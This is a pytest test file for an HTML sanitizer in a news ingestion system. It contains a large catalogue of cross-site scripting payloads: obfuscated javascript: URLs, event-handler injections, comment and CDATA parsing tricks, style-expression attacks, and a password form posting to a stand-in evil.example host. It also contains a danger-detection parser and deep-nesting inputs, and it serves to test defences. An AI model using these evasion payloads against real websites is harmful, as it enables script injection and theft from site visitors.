"""The sanitizer against hostile markup, checked by parsing its output rather than by searching strings."""

import re
from html.parser import HTMLParser

import pytest

from ingest.sanitize import html_to_text, plain_title, sanitize_html
from tests.markup import element_names, nesting_depth

# Elements that run code, load other documents, restyle the page or submit data.
DANGEROUS_ELEMENTS = frozenset(
    {
        "script",
        "iframe",
        "frame",
        "frameset",
        "object",
        "embed",
        "applet",
        "svg",
        "math",
        "style",
        "meta",
        "link",
        "base",
        "form",
        "input",
        "button",
        "textarea",
        "select",
        "isindex",
        "noscript",
        "template",
        "xml",
    }
)
DANGEROUS_SCHEMES = ("javascript:", "vbscript:", "data:")
# Browsers ignore ASCII whitespace and control characters inside a URL's scheme: "java\tscript:" runs.
_IGNORED_IN_SCHEME = re.compile(r"[\x00-\x20\x7f-\x9f]+")


def normalized_attribute_value(value: str | None) -> str:
    """An attribute value as a browser reads its scheme (html.parser has already decoded entities)."""
    return _IGNORED_IN_SCHEME.sub("", value or "").lower()


def attribute_problems(tag: str, attributes: list[tuple[str, str | None]]) -> list[str]:
    problems = []
    for name, value in attributes:
        if name.startswith("on"):
            problems.append(f"<{tag} {name}=…> event handler")
        elif name == "style":
            problems.append(f"<{tag} style=…> inline style")
        elif normalized_attribute_value(value).startswith(DANGEROUS_SCHEMES):
            problems.append(f"<{tag} {name}={value!r}> dangerous URL")
    return problems


class DangerFinder(HTMLParser):
    """Collects every dangerous element and attribute, as a browser's tokenizer would see them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in DANGEROUS_ELEMENTS:
            self.problems.append(f"<{tag}> element")
        self.problems.extend(attribute_problems(tag, attrs))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)


def find_dangerous_markup(markup: str) -> list[str]:
    """Every executable element, event handler, inline style or script URL in the markup."""
    finder = DangerFinder()
    finder.feed(markup)
    finder.close()
    return finder.problems


SCRIPT_ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<script type="text/javascript">alert(1)</script>',
    '<script/xss src="http://evil.example/x.js"></script>',
    "<scr<script>ipt>alert(1)</script>",
    "<<script>alert(1);//<</script>",
    "<script><!--alert(1)//--></script>",
    "<script><![CDATA[alert(1)]]></script>",
    "<script>alert(1)",
    "<p>safe<script>alert(1)</script> text</p>",
    "</title><script>alert(1)</script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<textarea><script>alert(1)</script></textarea>",
    '<svg><script xlink:href="data:,alert(1)"></script></svg>',
]
EVENT_HANDLERS = [
    "onclick",
    "onerror",
    "onload",
    "onmouseover",
    "onmouseenter",
    "onfocus",
    "onblur",
    "onchange",
    "oninput",
    "onsubmit",
    "onkeydown",
    "onscroll",
    "onwheel",
    "oncopy",
    "onanimationstart",
    "onpointerdown",
    "ontoggle",
    "onbeforeprint",
    "onhashchange",
    "onpageshow",
    "onunload",
    "ONCLICK",
    "OnError",
]
EVENT_HANDLER_ATTACKS = [
    template.format(handler=handler)
    for handler in EVENT_HANDLERS
    for template in (
        '<p {handler}="alert(1)">text</p>',
        '<a href="https://example.com/" {handler}=alert(1)>link</a>',
        '<img src="https://example.com/i.png" {handler}="alert(1)">',
        "<table><tr><td {handler}=alert(1)>cell</td></tr></table>",
    )
] + [
    "<img src=x onerror=alert(1)//",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x" onerror ="alert(1)">',
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
]
SCRIPT_URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java\rscript:alert(1)",
    "java&#x09;script:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;&#x61;vascript:alert(1)",
    "&#0000106avascript:alert(1)",
    "javascript&colon;alert(1)",
    "vbscript:msgbox(1)",
    "VBScript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:text/html,<script>alert(1)</script>",
    "DATA:image/svg+xml,<svg onload=alert(1)>",
]
URL_ATTACKS = [
    template.format(url=url)
    for url in SCRIPT_URLS
    for template in (
        '<a href="{url}">link</a>',
        '<img src="{url}">',
        '<blockquote cite="{url}">quote</blockquote>',
        '<q cite="{url}">quote</q>',
    )
] + [
    '<form action="javascript:alert(1)"><input type="submit"></form>',
    '<button formaction="javascript:alert(1)">go</button>',
    '<img dynsrc="javascript:alert(1)">',
    '<img lowsrc="javascript:alert(1)">',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<a xlink:href="javascript:alert(1)">link</a>',
    "<a href=javascript:alert(1)>unquoted</a>",
]
ELEMENT_ATTACKS = [
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<frameset><frame src="https://evil.example/"></frameset>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<applet code="Evil.class"></applet>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<style>body { background: url(javascript:alert(1)) }</style>",
    '<style>@import "https://evil.example/x.css";</style>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<base href="https://evil.example/">',
    '<form method="post" action="https://evil.example/"><input name="password"></form>',
    "<isindex action=javascript:alert(1) type=image>",
    "<template><script>alert(1)</script></template>",
    '<marquee onstart="alert(1)">x</marquee>',
    "<xml><x:script>alert(1)</x:script></xml>",
]
STYLE_ATTACKS = [
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<div style="width: expression(alert(1))">x</div>',
    '<span style="-moz-binding:url(https://evil.example/xss.xml#xss)">x</span>',
    '<p STYLE="behavior: url(x.htc)">x</p>',
    '<img src="https://example.com/i.png" style="position:fixed;top:0;left:0;width:100%;height:100%">',
]
COMMENT_ATTACKS = [
    "<!--<script>alert(1)</script>-->safe",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!-- --!><script>alert(1)</script> -->",
    "<!--><script>alert(1)</script>-->",
    "<!---><img src=x onerror=alert(1)>-->",
    "<!-- unclosed <script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<?xml-stylesheet href="javascript:alert(1)"?>',
    '<p title="--><script>alert(1)</script>">x</p>',
]
ATTACKS = SCRIPT_ATTACKS + EVENT_HANDLER_ATTACKS + URL_ATTACKS + ELEMENT_ATTACKS + STYLE_ATTACKS + COMMENT_ATTACKS


@pytest.mark.parametrize("base_url", ["", "https://news.example/feeds/"])
@pytest.mark.parametrize("attack", ATTACKS)
def test_sanitized_attack_has_no_dangerous_markup(attack, base_url):
    assert find_dangerous_markup(sanitize_html(attack, base_url)) == []


@pytest.mark.parametrize("attack", COMMENT_ATTACKS)
def test_sanitized_markup_keeps_no_comments(attack):
    assert "<!--" not in sanitize_html(attack)


@pytest.mark.parametrize(
    ("markup", "expected_problem"),
    [
        ("<script>alert(1)</script>", "<script> element"),
        ('<p onclick="x()">t</p>', "<p onclick=…> event handler"),
        ('<img src="x" ONERROR="x()">', "<img onerror=…> event handler"),
        ('<p style="color:red">t</p>', "<p style=…> inline style"),
        ('<a href="java\tscript:x()">t</a>', "<a href='java\\tscript:x()'> dangerous URL"),
        ('<a href="&#106;avascript:x()">t</a>', "<a href='javascript:x()'> dangerous URL"),
        ('<img src=" DATA:text/html,x">', "<img src=' DATA:text/html,x'> dangerous URL"),
        ("<svg/onload=x()>", "<svg> element"),
    ],
)
def test_the_danger_finder_sees_what_a_browser_would_run(markup, expected_problem):
    assert expected_problem in find_dangerous_markup(markup)


@pytest.mark.parametrize(
    ("markup", "expected"),
    [
        ("<p>Hello <strong>world</strong></p>", "<p>Hello <strong>world</strong></p>"),
        (
            '<a href="https://example.com/a?b=1&amp;c=2">link</a>',
            '<a href="https://example.com/a?b=1&amp;c=2" rel="noopener noreferrer nofollow">link</a>',
        ),
        (
            '<a href="http://example.com/" title="Example">link</a>',
            '<a href="http://example.com/" title="Example" rel="noopener noreferrer nofollow">link</a>',
        ),
        ("<ul><li>one</li><li>two</li></ul>", "<ul><li>one</li><li>two</li></ul>"),
        ('<ol start="3"><li>three</li></ol>', '<ol start="3"><li>three</li></ol>'),
        (
            "<table><thead><tr><th>Year</th></tr></thead><tbody><tr><td>2024</td></tr></tbody></table>",
            "<table><thead><tr><th>Year</th></tr></thead><tbody><tr><td>2024</td></tr></tbody></table>",
        ),
        ("<blockquote><p>quoted</p></blockquote>", "<blockquote><p>quoted</p></blockquote>"),
        ("<h2>Heading</h2><p>a<br>b</p>", "<h2>Heading</h2><p>a<br>b</p>"),
        ('<time datetime="2024-05-01">May 1</time>', '<time datetime="2024-05-01">May 1</time>'),
    ],
)
def test_harmless_markup_survives(markup, expected):
    assert sanitize_html(markup) == expected


@pytest.mark.parametrize(
    ("markup", "expected"),
    [
        ('<a href="/story/1">x</a>', '<a href="https://news.example/story/1" rel="noopener noreferrer nofollow">x</a>'),
        (
            '<a href="story/1">x</a>',
            '<a href="https://news.example/feeds/story/1" rel="noopener noreferrer nofollow">x</a>',
        ),
        ('<a href="//cdn.example/x">x</a>', '<a href="https://cdn.example/x" rel="noopener noreferrer nofollow">x</a>'),
        (
            '<a href="?page=2">x</a>',
            '<a href="https://news.example/feeds/?page=2" rel="noopener noreferrer nofollow">x</a>',
        ),
    ],
)
def test_relative_urls_are_resolved_against_the_base_url(markup, expected):
    assert sanitize_html(markup, "https://news.example/feeds/") == expected


@pytest.mark.parametrize(
    ("markup", "expected"),
    [
        ('<a href="/story/1">x</a>', '<a rel="noopener noreferrer nofollow">x</a>'),
    ],
)
def test_relative_urls_without_a_base_url_are_dropped(markup, expected):
    assert sanitize_html(markup) == expected


@pytest.mark.parametrize(
    ("markup", "expected"),
    [
        ("<div>inside a div</div>", "inside a div"),
        ('<font color="red">old markup</font>', "old markup"),
        ('<p class="x" id="y">attributes dropped</p>', "<p>attributes dropped</p>"),
        ("a\x00b", "ab"),
        ("", ""),
    ],
)
def test_unknown_tags_are_unwrapped_and_their_text_kept(markup, expected):
    assert sanitize_html(markup) == expected


@pytest.mark.parametrize(
    ("markup", "expected"),
    [
        ("<p>first</p><p>second</p>", "first\nsecond"),
        ("<h1>Title</h1>Body", "Title\nBody"),
        ("line<br>break", "line\nbreak"),
        ("<ul><li>one</li><li>two</li></ul>", "one\ntwo"),
        ("<table><tr><td>1</td><td>2</td></tr></table>", "1\n2"),
        ("<div>a</div><div>b</div>", "a\nb"),
        ("Kim &amp; Putin &mdash; &#8220;talks&#8221;", "Kim & Putin — “talks”"),
        ("&lt;b&gt;not markup&lt;/b&gt;", "<b>not markup</b>"),
        ("a&nbsp;b", "a b"),
        ("<p>before</p><script>alert(1)</script><p>after</p>", "before\nafter"),
        ("<style>p { color: red }</style>text", "text"),
        ("<p>visible</p><!-- hidden -->", "visible"),
        ("  a \t b  \n\n\n c ", "a b\nc"),
        ("nul\x00byte", "nulbyte"),
        ("lone\ud800surrogate", "lonesurrogate"),
        ("", ""),
    ],
)
def test_html_to_text(markup, expected):
    assert html_to_text(markup) == expected


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("<b>Kim</b> meets <i>Putin</i>", "Kim meets Putin"),
        ("<p>Line one</p><p>Line two</p>", "Line one Line two"),
        ("Two\nlines", "Two lines"),
        ("Q&amp;A", "Q&A"),
        ("<script>alert(1)</script>News", "News"),
        ("  padded  ", "padded"),
    ],
)
def test_plain_title_is_one_line_of_text(value, expected):
    assert plain_title(value) == expected


def test_plain_title_is_cut_to_its_maximum_length():
    assert plain_title("x" * 50, 10) == "x" * 10


@pytest.mark.parametrize(
    ("markup", "expected_text"),
    [
        ('<img src="https://example.com/map.png" alt="Map" width="10" height="20">', "Map"),
        ('<p>Troops<img src="https://pixel.example/t.gif">crossed</p>', "Troops crossed"),
        ('<p>See <img src="../img/port.png" alt="Map of the port"> above</p>', "See Map of the port above"),
        ("<IMG SRC=//cdn.example/x.png ALT='Kim &amp; Putin'>", "Kim & Putin"),
        ('<img alt="<script>alert(1)</script>" src="https://evil.example/x.png">', "<script>alert(1)</script>"),
        ('<image src="https://example.com/i.png" alt="old spelling">', "old spelling"),
        ('<figure><img src="https://example.com/a.jpg"><figcaption>Caption</figcaption></figure>', "Caption"),
    ],
)
def test_stored_html_carries_no_images_only_their_alt_text(markup, expected_text):
    sanitized = sanitize_html(markup, "https://news.example/feeds/")
    assert "img" not in element_names(sanitized)
    assert find_dangerous_markup(sanitized) == []
    assert html_to_text(sanitized) == expected_text


def blockquotes(depth: int, inner: str) -> str:
    return "<blockquote>" * depth + inner + "</blockquote>" * depth


@pytest.mark.parametrize(
    "markup",
    [
        pytest.param(blockquotes(3000, "<p>deep <b>text</b></p>"), id="nested blockquotes"),
        pytest.param("<blockquote>" * 3000 + "<p>deep <b>text</b></p>", id="never closed"),
        pytest.param(
            '<script>a<b x="</script>' + blockquotes(3000, '<p>deep <b>text</b></p><!--">-->'), id="quote in script"
        ),
        pytest.param('<blockquote title="></blockquote>">' * 3000 + "<p>deep <b>text</b></p>", id="end tag in a value"),
        pytest.param("<!--><blockquote>" * 3000 + "<p>deep <b>text</b></p>", id="empty comments"),
        pytest.param("<svg><![CDATA[></svg>]]></svg>" + blockquotes(3000, "<p>deep <b>text</b></p>"), id="cdata"),
    ],
)
def test_a_deeply_nested_fragment_is_cleaned_no_deeper_than_the_limit(markup, settings):
    settings.INGEST_MAX_HTML_DEPTH = 40
    sanitized = sanitize_html(markup)
    assert nesting_depth(sanitized) <= 40
    assert html_to_text(sanitized) == "deep text"  # the tags past the limit are gone, their text is not
    assert html_to_text(markup) == "deep text"


def test_nesting_within_the_limit_is_kept_whole(settings):
    settings.INGEST_MAX_HTML_DEPTH = 40
    markup = blockquotes(30, "<p>deep <b>text</b></p>")
    assert sanitize_html(markup) == markup
